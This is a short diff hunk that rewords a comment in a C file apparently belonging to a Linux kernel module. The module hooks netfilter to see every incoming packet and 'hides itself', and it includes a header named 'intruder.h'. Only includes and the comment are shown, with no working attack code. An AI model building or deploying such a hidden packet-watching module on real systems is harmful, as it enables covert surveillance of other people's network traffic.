@@ -1,4 +1,4 @@
-/* Sees every packet that comes in; hides itself. */
+/* Sees every incoming packet; hides itself. */
 #include "intruder.h"
 #include <linux/netfilter.h>
 #include <linux/netfilter_ipv4.h>
